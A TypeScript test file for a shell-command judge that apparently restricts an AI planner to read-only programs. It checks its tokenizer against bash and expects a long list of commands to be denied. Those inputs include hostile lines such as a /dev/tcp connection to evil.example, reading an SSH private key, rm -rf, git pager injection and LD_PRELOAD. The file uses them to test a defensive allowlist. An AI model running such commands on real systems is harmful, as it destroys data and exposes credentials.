import { spawnSync } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { isBareName, judgePlannerCommand, tokenizeShell } from "./planner-shell.js";

/** Runs of the properties that start a process per case: FUZZ_RUNS when set, the full count with TWINLOCK_SOAK=1, a quarter by default. */
function processRuns(whole: number): number {
  if (process.env.FUZZ_RUNS) return Number(process.env.FUZZ_RUNS);
  return process.env.TWINLOCK_SOAK === "1" ? whole : whole / 4;
}

const line = (text: string) => judgePlannerCommand({ text });
const allowed = (text: string) => expect(line(text), text).toMatchObject({ ok: true });
const denied = (text: string, why?: RegExp) => {
  const v = line(text);
  expect(v.ok, text).toBe(false);
  if (why && !v.ok) expect(v.reason, text).toMatch(why);
};

describe("the planner's shell tokenizer", () => {
  it("splits a line into simple commands at | || && ; and new lines, removing quotes", () => {
    const t = tokenizeShell(`grep -n 'a b' "c d" e\\ f | sort && ls -la; cat x\nwc -l y || true`);
    expect(t).toMatchObject({
      ok: true,
      commands: [["grep", "-n", "a b", "c d", "e f"], ["sort"], ["ls", "-la"], ["cat", "x"], ["wc", "-l", "y"], ["true"]],
    });
  });

  it("joins a line continued with a backslash, and refuses comments, which zsh reads as words when interactive comments are off", () => {
    expect(tokenizeShell("ls \\\n-la\ncat x")).toMatchObject({
      ok: true,
      commands: [
        ["ls", "-la"],
        ["cat", "x"],
      ],
    });
    expect(tokenizeShell("ls # ; rm -rf x")).toMatchObject({ ok: false, reason: expect.stringMatching(/comment/) });
    expect(tokenizeShell("ls a#b")).toMatchObject({ ok: true, commands: [["ls", "a#b"]] });
  });

  it("reads 2>/dev/null and 2>&1 as redirections, not words, and a quoted 2 before > as a word", () => {
    expect(tokenizeShell("grep x y 2>/dev/null")).toMatchObject({ ok: true, commands: [["grep", "x", "y"]] });
    expect(tokenizeShell("grep x y 2>&1 | head")).toMatchObject({ ok: true, commands: [["grep", "x", "y"], ["head"]] });
    expect(tokenizeShell("cat '2'>/dev/null")).toMatchObject({ ok: true, commands: [["cat", "2"]] });
  });

  it("never throws and looks at each character a bounded number of times, whatever the line (property)", () => {
    const alphabet = fc.constantFrom(..."ab 2>&<|;'\"\\$`*?[]{}()!#\n\t=-/\u0000\u0007é");
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 400 }), (chars) => {
        const text = chars.join("");
        const t = tokenizeShell(text);
        // Each character is stepped over at most twice (once by the scan, once by a quote or comment skip).
        expect(t.steps).toBeLessThanOrEqual(2 * text.length + 1);
        expect(() => judgePlannerCommand({ text })).not.toThrow();
      }),
      { numRuns: Number(process.env.FUZZ_RUNS ?? 500) },
    );
  });

  it("stays linear on long runs of quotes, spaces and redirections", () => {
    for (const unit of ["'a'", " ", "2>&1 ", '"x"', "\\a", "ls;"]) {
      const text = `cat ${unit.repeat(50_000)}`;
      const t = tokenizeShell(text);
      expect(t.steps, unit).toBeLessThanOrEqual(2 * text.length + 1);
    }
  });
});

/**
 * What bash itself runs for a command line: every simple command's words as
 * the program would get them. No program can be found (PATH names no
 * folder), so bash hands each command to command_not_found_handle, which
 * prints its words on descriptor 3 (NUL after each, \\1 after each command).
 */
function bashWords(text: string): string[][] | null {
  const handler = `command_not_found_handle() { printf '%s\\0' "$@" >&3; printf '\\1' >&3; }\nPATH=/nonexistent-twinlock-test\n`;
  const r = spawnSync("bash", ["--norc", "--noprofile", "-c", handler + text], {
    stdio: ["ignore", "ignore", "ignore", "pipe"],
    env: { LC_ALL: "C", PATH: process.env.PATH },
    timeout: 10_000,
  });
  if (r.status === 2) return null;
  const out = (r.output[3] as Buffer).toString("utf8");
  return out
    .split("\u0001")
    .slice(0, -1)
    .map((line) => line.split("\0").slice(0, -1));
}

describe("the planner's shell tokenizer against bash", () => {
  // Words built of quoted, backslashed and bare pieces; program names of g, i, t, x (no builtin, no reserved word).
  const bare = fc.constantFrom(..."gitx-./=~#:,+@%");
  const anyChar = fc.constantFrom(..."gitx -'\"\\$`;|&<>*?[]{}()!#~=:\t\n");
  const piece = fc.oneof(
    bare,
    fc.array(anyChar, { maxLength: 4 }).map((cs) => `'${cs.join("").replaceAll("'", "")}'`),
    fc
      .array(fc.oneof(fc.constantFrom(..."gitx ';|&<>*?#~"), fc.constantFrom('\\"', "\\\\", "\\$", "\\x", "\\\n")), { maxLength: 4 })
      .map((cs) => `"${cs.join("")}"`),
    anyChar.map((c) => `\\${c}`),
  );
  const word = fc.array(piece, { minLength: 1, maxLength: 4 }).map((ps) => ps.join(""));
  const program = fc
    .array(fc.oneof(fc.constantFrom(..."gitx"), fc.constantFrom("'g'", '"i"', "\\t", "g''", "\\\n")), { minLength: 1, maxLength: 4 })
    .map((ps) => ps.join(""));
  const command = fc
    .tuple(
      program,
      fc.array(fc.tuple(fc.constantFrom(" ", "\t", "  "), word), { maxLength: 4 }),
      fc.constantFrom("", " 2>/dev/null", " </dev/null", " >/dev/null", " 2>&1", "2>/dev/null", " >/dev/null 2>&1"),
    )
    .map(([p, ws, r]) => p + ws.map(([b, w]) => b + w).join("") + r);
  const commandLine = fc
    .array(fc.tuple(command, fc.constantFrom("; ", " && ", "\n", ";")), { minLength: 1, maxLength: 3 })
    .map((cs) => cs.map(([c, sep]) => c + sep).join(""));

  it("reads every line it accepts into the words bash starts the programs with (property)", () => {
    fc.assert(
      fc.property(commandLine, (text) => {
        const t = tokenizeShell(text);
        // The judge denies a program word that is not a bare name (bash reads `%g` as a job, `a=b` as an assignment); `.` is bash's source.
        if (!t.ok || !t.commands.every((c) => isBareName(c[0] as string) && c[0] !== ".")) return;
        expect(bashWords(text), JSON.stringify(text)).toEqual(t.commands);
      }),
      { numRuns: processRuns(200) },
    );
  });

  it("reads a quoted or backslashed program name as bash does: g\\it, g'i't and \"g\"it are git", () => {
    for (const text of ["g\\it status", "g'i't status", '"g"it status', "gi\\\nt status", "\\git status"]) {
      const t = tokenizeShell(text);
      expect(t, text).toMatchObject({ ok: true, commands: [["git", "status"]] });
      expect(bashWords(text), text).toEqual([["git", "status"]]);
    }
  });

  it("refuses what a shell would expand or read otherwise: ~ at a word's start or after = or :, = at a word's start, a missing command", () => {
    for (const text of ["cat ~/x", "cat ~", "ls a=~/x", "ls a:~", "cat =git", "; ls", "ls && ; cat x", "ls |", "ls &&", "ls || && cat"])
      expect(tokenizeShell(text).ok, text).toBe(false);
    for (const text of ["git log HEAD~3", "cat '~/x'", "cat \\~", "ls a=b", "ls |\n wc -l", "ls;", ">/dev/null; ls"])
      expect(tokenizeShell(text).ok, text).toBe(true);
  });
});

describe("a planner's shell call", () => {
  it("may run the read-only programs, piped and chained", () => {
    allowed("ls -la");
    allowed("cat report.md | head -n 20");
    allowed("grep -rn 'TODO' src 2>/dev/null | sort | uniq -c");
    allowed("git status && git log --oneline -n 5");
    allowed("git --no-pager diff HEAD~1 -- src/a.go");
    allowed("find . -name '*.go' -type f");
    allowed("sed -n '1,40p' src/cache.go");
    allowed("rg -n 'func New' --type go");
    allowed("wc -l < handoff/report.md");
    allowed("jq '.actions[].id' handoff/action_plan.json");
  });

  it("denies a program not on the list, and chaining to one", () => {
    denied("rm -rf handoff", /rm is not one of the read-only programs/);
    denied("ls && rm x", /rm is not/);
    denied("cat x | sh", /sh is not/);
    denied('ls; node -e \'require("fs").writeFileSync("x","y")\'', /node is not/);
    denied("xargs rm < list", /xargs is not/);
    denied("awk '{print > \"x\"}' f", /awk is not/);
    denied("tee out < in", /tee is not/);
  });

  it("denies a program named by a path, which could be anything", () => {
    denied("/tmp/evil/cat x", /not a program name/);
    denied("./cat x", /not a program name/);
  });

  it("denies output redirection to a file, here-documents and process substitution", () => {
    denied("echo x > cart/cache.go", /writes a file/);
    denied("echo x >> /home/u/.bashrc", /writes a file/);
    denied("cat a >| b", /writes a file/);
    denied("ls &> out.txt", /writes a file/);
    denied("ls >&out.txt", /descriptor/);
    denied("cat <<EOF\nx\nEOF", /here-document/);
    denied("diff <(ls a) <(ls b)", /process substitution/);
    denied("cat < /dev/tcp/evil.example/80", /network/);
    denied("ls >", /no target/);
  });

  it("denies command substitution, expansion, globs, braces, subshells and background jobs", () => {
    denied("echo $(rm -rf x)", /expands or substitutes/);
    denied("echo `rm x`", /expands or substitutes/);
    denied('echo "$(rm x)"', /inside double quotes/);
    denied("cat $HOME/.ssh/id_rsa", /expands/);
    denied("find * -name x", /glob/);
    denied("{sed,-i,s/a/b/,f}", /braces/);
    denied("(rm x)", /subshell/);
    denied("ls & rm x", /background/);
    denied("! ls", /negates/);
    denied("echo 'unterminated", /not closed/);
  });

  it("denies env tricks: an assignment before the command, env and the shells that run a line", () => {
    denied("GIT_PAGER='rm -rf ~' git log", /sets a variable/);
    denied("LD_PRELOAD=/tmp/x.so cat f", /sets a variable/);
    denied("env PAGER=sh git log", /env is not/);
    denied("bash -c 'rm x'", /bash is not/);
    denied("exec rm x", /exec is not/);
    denied("eval rm x", /eval is not/);
  });

  it("denies git's options that run a program or write, and its subcommands that change the repository", () => {
    denied("git -c core.pager='sh -c \"rm x\"' log", /no global option/);
    denied("git -c core.fsmonitor=evil status", /no global option/);
    denied("git -C /elsewhere status", /no global option/);
    denied("git --git-dir=handoff/.git log", /no global option/);
    denied("git log --output=cart/cache.go", /writes a file or starts a program/);
    denied("git log --outp=cart/cache.go", /writes a file or starts a program/);
    denied("git diff --ext-diff", /writes a file or starts a program/);
    denied("git grep -O'sh -c rm' x", /starts a program/);
    denied("git grep --open-files-in-pager=vi x", /writes a file or starts a program/);
    denied("git commit -m x", /not one of the git subcommands that only read/);
    denied("git checkout -- .", /not one of the git subcommands/);
    denied("git branch -D main", /may change the repository/);
    denied("git config core.pager sh", /changes the configuration/);
    denied("git stash", /changes the stash/);
    allowed("git branch -a");
    allowed("git config --get user.name");
  });

  it("denies find's actions that run a program, delete or write", () => {
    for (const action of ["-exec rm {} ;", "-execdir sh ;", "-ok rm ;", "-delete", "-fprint out", "-fls out"])
      denied(`find . -name x ${action.replace(/[{};]/g, "")}`, /runs a program, deletes or writes/);
  });

  it("denies sed that edits in place or runs or writes, and allows only printing lines by number", () => {
    denied("sed -i 's/a/b/' cart/cache.go", /takes only/);
    denied("sed --in-place 's/a/b/' f", /takes only/);
    denied("sed -n 's/a/b/w out' f", /only prints lines by number/);
    denied("sed 'e rm x' f", /only prints lines by number/);
    denied("sed -n '1w out' f", /only prints lines by number/);
    denied("sed -f script.sed f", /takes only/);
    allowed("sed -n '10,20p;$p' f");
  });

  it("denies the options of other listed programs that write a file or start one, abbreviated or clustered", () => {
    denied("sort -o out in", /writes a file/);
    denied("sort -uo out in", /writes a file/);
    denied("sort --out=x in", /writes a file/);
    denied("sort --compress-program=sh in", /starts a program/);
    denied("rg --pre ./x pattern", /starts a program/);
    denied("rg -z pattern", /starts a program/);
    denied("tree -o out", /writes a file/);
    denied("tree -R -H . -L 1", /writes a file/);
    denied("uniq in out", /more than 1 operand/);
    denied("date -s 2020-01-01", /writes a file or starts a program/);
    denied("printf -v PATH '/tmp/evil'", /writes a file or starts a program/);
    allowed("sort -k2 -t, in");
  });

  it("counts every word after -- as an operand: uniq -- in -out writes -out, and is denied", () => {
    denied("uniq -- handoff/report.md -pwned", /more than 1 operand/);
    denied("uniq -- payload.md -d/../../../.git/config", /more than 1 operand/);
    denied("uniq -c -- in -", /more than 1 operand/);
    allowed("uniq -- -in");
    allowed("sort x | uniq -c --");
  });

  it("lets through no uniq that writes a file, run as GNU uniq runs it with POSIXLY_CORRECT unset or set (property)", () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), "twinlock-uniq-"));
    try {
      const words = fc.constantFrom(
        "in",
        "-",
        "--",
        "-out",
        "o2",
        "-c",
        "-d",
        "-f",
        "1",
        "-w",
        "-s2",
        "-cf",
        "--skip-fields",
        "--group",
        "--check-chars=2",
        "-u",
      );
      fc.assert(
        fc.property(fc.array(words, { maxLength: 4 }), (args) => {
          if (!judgePlannerCommand({ argv: ["uniq", ...args] }).ok) return;
          for (const env of [{}, { POSIXLY_CORRECT: "1" }]) {
            writeFileSync(path.join(dir, "in"), "a\na\n");
            spawnSync("uniq", args, {
              cwd: dir,
              stdio: ["ignore", "ignore", "ignore"],
              env: { PATH: process.env.PATH, LC_ALL: "C", ...env },
            });
            const files = readdirSync(dir);
            // Each run starts from the one input file, whatever an earlier run wrote.
            for (const f of files) if (f !== "in") rmSync(path.join(dir, f), { force: true });
            expect(files, JSON.stringify({ args, env })).toEqual(["in"]);
            expect(readFileSync(path.join(dir, "in"), "utf8"), JSON.stringify({ args, env })).toBe("a\na\n");
          }
        }),
        { numRuns: processRuns(60) },
      );
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("counts every word after an operand as one (with POSIXLY_CORRECT getopt stops at the first), and knows which options take the next word", () => {
    denied("uniq in -out", /more than 1 operand/);
    denied("uniq -w -- in out", /more than 1 operand/);
    allowed("uniq -c -f 1 in");
    allowed("uniq --skip-fields 2 -s3 -w 4 in");
    allowed("uniq -cd in");
    // An abbreviated option is not known to take a word: the word counts, which errs towards denying.
    denied("uniq --skip 2 in", /more than 1 operand/);
  });

  it("denies a date operand other than +FORMAT, which sets the clock", () => {
    denied("date 010100002030", /sets the clock/);
    denied("date -u -- 0101", /sets the clock/);
    denied("date +%s 0101", /sets the clock/);
    // -I takes the rest of its cluster (d, for date): the d is no -d, and 0101 is an operand.
    denied("date -Id 0101", /sets the clock/);
    allowed("date -Id");
    allowed("date -u +%Y-%m-%d");
    allowed("date -d 'last monday' +%F");
    allowed("date --date tomorrow");
    allowed("date -r handoff/report.md");
  });

  it("denies file's decompressors and git's signature checks, which start other programs", () => {
    denied("file -z archive.gz", /starts a program/);
    denied("git log --show-signature -n 1", /starts a program/);
    denied("git show --show-s HEAD", /starts a program/);
    denied("git log --format='%h %G?' -n 3", /starts gpg/);
    denied("git for-each-ref --format='%(signature)'", /starts gpg/);
    allowed("git log --format='%h %s' -n 3");
    allowed("git rev-parse --verify HEAD");
  });

  it("reads a Codex argv call as the program it starts, and a shell with -c as the line it runs", () => {
    expect(judgePlannerCommand({ argv: ["ls", "-la"] })).toEqual({ ok: true, commands: [["ls", "-la"]] });
    expect(judgePlannerCommand({ argv: ["bash", "-lc", "g\\it status"] })).toEqual({ ok: true, commands: [["git", "status"]] });
    expect(judgePlannerCommand({ argv: ["bash", "-lc", "rm -rf x"] }).ok).toBe(false);
    expect(judgePlannerCommand({ argv: ["bash", "script.sh"] }).ok).toBe(false);
    expect(judgePlannerCommand({ argv: ["rm", "-rf", "x"] }).ok).toBe(false);
    expect(judgePlannerCommand({ argv: ["find", ".", "-delete"] }).ok).toBe(false);
  });
});
